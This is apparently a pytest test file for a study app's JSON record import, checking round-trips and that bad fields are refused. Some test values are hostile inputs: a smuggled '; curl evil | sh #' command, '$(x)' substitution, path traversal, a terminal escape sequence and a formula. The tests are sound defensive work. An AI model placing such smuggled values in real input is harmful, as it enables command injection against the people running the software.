"""The record as JSON, and back to the letter."""

import json
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studytui.errors import BadInput
from studytui.exchange.json_record import from_json, to_json
from studytui.whole_record import KeptSession, KeptSnooze, KeptStatus, WholeRecord
from tests import makers
from tests.exchange.generated import records


@given(records)
def test_there_and_back(record: WholeRecord) -> None:
    text = to_json(record)
    assert from_json(text, "file") == record
    assert to_json(from_json(text, "file")) == text


@given(records)
def test_nothing_in_it_drives_a_terminal(record: WholeRecord) -> None:
    harmful = {*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), 0x2028, 0x2029} - {0x0A}
    assert not harmful & set(map(ord, to_json(record)))


def a_document() -> dict[str, Any]:
    """A good document with one of each."""
    change = makers.change("loops", "done", why="known")
    record = WholeRecord(
        sessions=(KeptSession(makers.session(text="joins"), makers.NOW),),
        statuses=(KeptStatus("road", change),),
        snoozes=(KeptSnooze("too-many-tools", makers.TODAY, makers.NOW),),
    )
    document: dict[str, Any] = json.loads(to_json(record))
    note = {"roadmap": "road", "item": "loops", "text": "a", "saved": "2026-03-11T10:00:00+00:00"}
    document["notes"] = [{**note, "edition": "e", "earlier": []}]
    pause = {"id": "p", "from": "2026-03-01", "to": "2026-03-02", "why": ""}
    document["pauses"] = [{**pause, "saved": "2026-03-11T10:00:00+00:00"}]
    return document


def test_a_good_document() -> None:
    assert len(from_json(json.dumps(a_document()), "file").notes) == 1


@pytest.mark.parametrize(
    ("key", "field", "value", "said"),
    [
        ("sessions", "start", "yesterday", "sessions, entry 1: start is 'yesterday' and not a t"),
        ("sessions", "start", "2026-03-11T10:00:00", "start is '2026-03-11T10:00:00' and not"),
        ("sessions", "seconds", -1, "seconds is -1 and not a whole number"),
        ("sessions", "seconds", 2**63, "and not a whole number"),
        ("sessions", "seconds", True, "seconds is True and not a whole number"),
        ("sessions", "day", "2020-01-01", "day is far from start"),
        ("sessions", "text", "a\0b", "text holds a NUL character"),
        ("sessions", "text", "\ud800", "text holds half a character"),
        ("sessions", "kind", "sleep", "kind is 'sleep' and not one of read, practice"),
        ("sessions", "id", "", "id is '' and not a name"),
        ("sessions", "id", "x" * 201, "id is longer than 200 characters"),
        ("sessions", "id", "\x1b]52;c;x\x07", "and not an id of letters, figures, dots and dashes"),
        ("sessions", "roadmap", "../../x", "roadmap is '../../x' and not an id of"),
        ("sessions", "item", "; curl evil | sh #", "item is '; curl evil | sh #' and not an id of"),
        ("statuses", "item", "$(x)", "item is '$(x)' and not an id of"),
        ("notes", "item", "=1+1", "item is '=1+1' and not an id of"),
        ("notes", "edition", "a b", "edition is 'a b' and not an id of"),
        ("pauses", "id", "x\n", "and not an id of"),
        ("snoozes", "finding", "\u202ex", "and not an id of"),
        ("sessions", "backfilled", "no", "backfilled is 'no' and not true or false"),
        ("statuses", "status", None, "status is None and not one of todo"),
        ("statuses", "saved", "0001-01-01T00:00:00+00:00", "and not a time such as"),
        ("notes", "text", "x" * (1 << 20) + "x", "text is larger than 1 MiB"),
        ("notes", "earlier", {}, "earlier is not a list"),
        ("pauses", "to", "2026-02-01", "a pause lasts from a day to a year"),
        ("snoozes", "until", "2026-13-01", "until is '2026-13-01' and not a date"),
        ("snoozes", "finding", ["x"], "finding is ['x'] and not a text"),
    ],
)
def test_what_cannot_be_is_refused_with_its_place(
    key: str, field: str, value: object, said: str
) -> None:
    document = a_document()
    document[key][0][field] = value
    with pytest.raises(BadInput) as refused:
        from_json(json.dumps(document), "file")
    assert said in refused.value.title
    assert refused.value.title.startswith("file: ")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{", "file:1:2: this is not JSON"),
        ("[" * 100_000, "file is nested too deeply"),
        ('{"a": NaN}', "file holds a number that is none"),
        ('{"a": ' + "1" * 5000 + "}", "file holds a number that is none"),
        ("{}", "file is not a record of studytui"),
        ("[]", "file is not a record of studytui"),
        ('{"format": "studytui record", "version": 2}', "was written by a newer studytui"),
        ('{"format": "studytui record", "version": "1"}', "file has no version"),
        ('{"format": "studytui record", "version": 1, "notes": [1]}', "notes, entry 1 is 1 and"),
    ],
)
def test_no_record_at_all(text: str, said: str) -> None:
    with pytest.raises(BadInput) as refused:
        from_json(text, "file")
    assert said in refused.value.line


def test_the_same_thing_twice() -> None:
    for key in ("sessions", "notes", "pauses", "snoozes"):
        document = a_document()
        document[key] *= 2
        with pytest.raises(BadInput, match="twice"):
            from_json(json.dumps(document), "file")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=8,
)


@given(st.data())
def test_whatever_stands_in_it_either_fits_or_is_refused(data: st.DataObject) -> None:
    document = a_document()
    key = data.draw(st.sampled_from(["sessions", "statuses", "notes", "pauses", "snoozes"]))
    field = data.draw(st.sampled_from(sorted(document[key][0])))
    document[key][0][field] = data.draw(json_values)
    with suppress(BadInput):
        to_json(from_json(json.dumps(document), "file"))
